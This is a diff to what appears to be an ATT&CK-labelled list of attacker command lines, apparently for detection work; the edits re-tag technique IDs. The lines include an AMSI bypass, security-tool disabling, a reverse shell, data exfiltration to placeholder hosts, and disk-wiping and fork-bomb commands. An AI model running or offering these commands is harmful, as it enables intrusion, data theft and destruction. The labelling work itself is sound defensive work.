@@ -62,7 +62,7 @@ ac-add-mppreference-exclusionpath powershell +T1685: Add-MpPreference -Exclusion
 ac-ref-assembly-gettype powershell +T1685: [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)
 ac-setenforce-0 bash +T1685: setenforce 0
 ac-systemctl-stop-falcon bash +T1685: systemctl stop falcon-sensor
-ac-systemctl-stop-auditd bash +T1685: systemctl stop auditd
+ac-systemctl-stop-auditd bash +T1685.004: systemctl stop auditd
 # T1686.003
 ac-netsh-advfirewall-set cmd +T1686.003: netsh advfirewall set allprofiles state off
 ac-netsh-firewall-set cmd +T1686.003: netsh firewall set opmode disable
@@ -114,7 +114,7 @@ ac-mstsc-v-restrictedadmin cmd +T1021.001: mstsc /v:‹ip› /restrictedadmin
 ac-net-use-user cmd +T1021.002: net use \\‹server›\C$ /user:‹domain›\‹user› ‹pass›
 ac-net-use-admin cmd +T1021.002: net use \\‹ip›\ADMIN$ ‹pass› /user:Administrator
 ac-smbclient-u bash +T1021.002: smbclient //‹ip›/C$ -U ‹domain›/‹user›%'‹pass›'
-ac-smbexec-py bash +T1021.002: smbexec.py ‹domain›/‹user›:'‹pass›'@‹ip›
+ac-smbexec-py bash +T1569.002: smbexec.py ‹domain›/‹user›:'‹pass›'@‹ip›
 # T1021.003
 ac-activator-createinstance-type powershell +T1021.003: [activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application','‹ip›')).Document.ActiveView.ExecuteShellCommand('cmd.exe',$null,'/c calc','7')
 ac-dcomexec-py-object bash +T1021.003: dcomexec.py -object MMC20 ‹domain›/‹user›:'‹pass›'@‹ip›
@@ -139,7 +139,7 @@ ac-get-clipboard powershell +T1115: Get-Clipboard
 ac-windows-forms-clipboard powershell +T1115: [Windows.Forms.Clipboard]::GetText()
 ac-xclip-o-selection bash +T1115: xclip -o -selection clipboard
 # T1005
-ac-copy-users-documents cmd +T1005: copy C:\Users\‹user›\Documents\*.docx C:\Users\Public\‹name›\
+ac-copy-users-documents cmd +T1074.001: copy C:\Users\‹user›\Documents\*.docx C:\Users\Public\‹name›\
 # T1039
 ac-xcopy-finance-xlsx cmd +T1039: xcopy \\‹server›\finance$\*.xlsx C:\Users\Public\‹name›\ /s /y
 # T1074.001
@@ -154,7 +154,7 @@ ac-copy-users-documents-n2 cmd +T1114.001: copy "C:\Users\‹user›\Documents\O
 # T1560.001
 ac-rar-a-hp cmd +T1560.001: rar.exe a -hp‹pass› C:\Users\Public\‹name›.rar C:\Users\‹user›\Documents
 ac-7z-a-p cmd +T1560.001: 7z.exe a -p‹pass› -mhe=on C:\ProgramData\‹name›.7z \\‹server›\share
-ac-compress-archive-path powershell +T1560.001: Compress-Archive -Path C:\Users\‹user›\Documents -DestinationPath C:\Users\Public\‹name›.zip
+ac-compress-archive-path powershell +T1560: Compress-Archive -Path C:\Users\‹user›\Documents -DestinationPath C:\Users\Public\‹name›.zip
 ac-tar-czf-tmp bash +T1560.001: tar czf /tmp/.‹name›.tgz /home /root /etc
 ac-zip-r-p bash +T1560.001: zip -r -P '‹pass›' /tmp/‹name›.zip /var/www /home
 # T1071.001
@@ -167,7 +167,7 @@ ac-dnscat-secret bash +T1071.004: ./dnscat --secret=‹hash› ‹fqdn›
 ac-netsh-interface-portproxy cmd +T1090: netsh interface portproxy add v4tov4 listenport=‹port› listenaddress=0.0.0.0 connectport=3389 connectaddress=‹ip›
 ac-frpc-users-public cmd +T1090: frpc.exe -c C:\Users\Public\frpc.ini
 # T1090.003
-ac-proxychains-nmap-st bash +T1090.003: proxychains nmap -sT -Pn ‹ip›
+ac-proxychains-nmap-st bash +T1090: proxychains nmap -sT -Pn ‹ip›
 # T1095
 ac-nc-lvnp bash +T1095: nc -lvnp ‹port›
 ac-nc-e-cmd cmd +T1095: nc.exe ‹ip› ‹port› -e cmd.exe
@@ -177,9 +177,9 @@ ac-chisel-client-8080 bash +T1572: chisel client ‹ip›:8080 R:socks
 ac-plink-ssh-r cmd +T1572: plink.exe -ssh -R ‹port›:127.0.0.1:3389 ‹user›@‹ip› -pw ‹pass›
 ac-ngrok-tcp-3389 cmd +T1572: ngrok.exe tcp 3389
 ac-chisel-client-http cmd +T1572: chisel.exe client http://‹ip›:8080 R:1080:socks
-# T1219
-ac-anydesk-install-programdata cmd +T1219: AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent
-ac-echo-programdata-anydesk cmd +T1219: echo ‹pass› | C:\ProgramData\AnyDesk.exe --set-password
+# T1219.002
+ac-anydesk-install-programdata cmd +T1219.002: AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent
+ac-echo-programdata-anydesk cmd +T1219.002: echo ‹pass› | C:\ProgramData\AnyDesk.exe --set-password
 # T1048.003
 ac-curl-t-tmp bash +T1048.003: curl -T /tmp/‹name›.tgz ftp://‹ip›/
 ac-nc-w-3 bash +T1048.003: nc -w 3 ‹ip› ‹port› < /tmp/‹name›.tgz
@@ -188,7 +188,7 @@ ac-ftp-s-users cmd +T1048.003: ftp.exe -s:C:\Users\Public\‹name›.txt ‹ip�
 # T1048.002
 ac-scp-tmp-tgz bash +T1048.002: scp /tmp/‹name›.tgz ‹user›@‹ip›:/srv/in/
 # T1041
-ac-invoke-restmethod-uri powershell +T1041: Invoke-RestMethod -Uri http://‹ip›/upload -Method Post -InFile C:\Users\Public\‹name›.zip
+ac-invoke-restmethod-uri powershell +T1048.003: Invoke-RestMethod -Uri http://‹ip›/upload -Method Post -InFile C:\Users\Public\‹name›.zip
 # T1567.002
 ac-rclone-copy-share cmd +T1567.002: rclone.exe copy \\‹server›\share mega:‹name› -q --ignore-existing --auto-confirm --multi-thread-streams 12
 ac-rclone-copy-srv bash +T1567.002: rclone copy /srv/data remote:‹name› --transfers 32 -q
@@ -196,7 +196,7 @@ ac-rclone-copy-srv bash +T1567.002: rclone copy /srv/data remote:‹name› --tr
 ac-del-s-f cmd +T1485: del /s /f /q C:\Users\*.*
 ac-format-d-q cmd +T1485: format D: /q /y
 ac-rm-rf-no bash +T1485: rm -rf / --no-preserve-root
-ac-shred-n-3 bash +T1485: shred -n 3 -z /dev/sda
+ac-shred-n-3 bash +T1561.001: shred -n 3 -z /dev/sda
 # T1561.002
 ac-dd-if-dev bash +T1561.002: dd if=/dev/zero of=/dev/sda bs=512 count=1
 # T1561.001
@@ -228,7 +228,7 @@ ac-passwd-l-root bash +T1531: passwd -l root; usermod -L ‹user›
 ac-pkill-kill-u bash +T1531: pkill -KILL -u ‹user›; userdel -r ‹user›
 # T1499
 ac-line bash +T1499: :(){ :|:& };:
-ac-hping3-s-flood bash +T1499: hping3 -S --flood -p 80 ‹ip›
+ac-hping3-s-flood bash +T1498: hping3 -S --flood -p 80 ‹ip›
 # T1491.001
 ac-echo-hacked-by bash +T1491.001: echo "HACKED BY ‹name›" > /var/www/html/index.html
 """
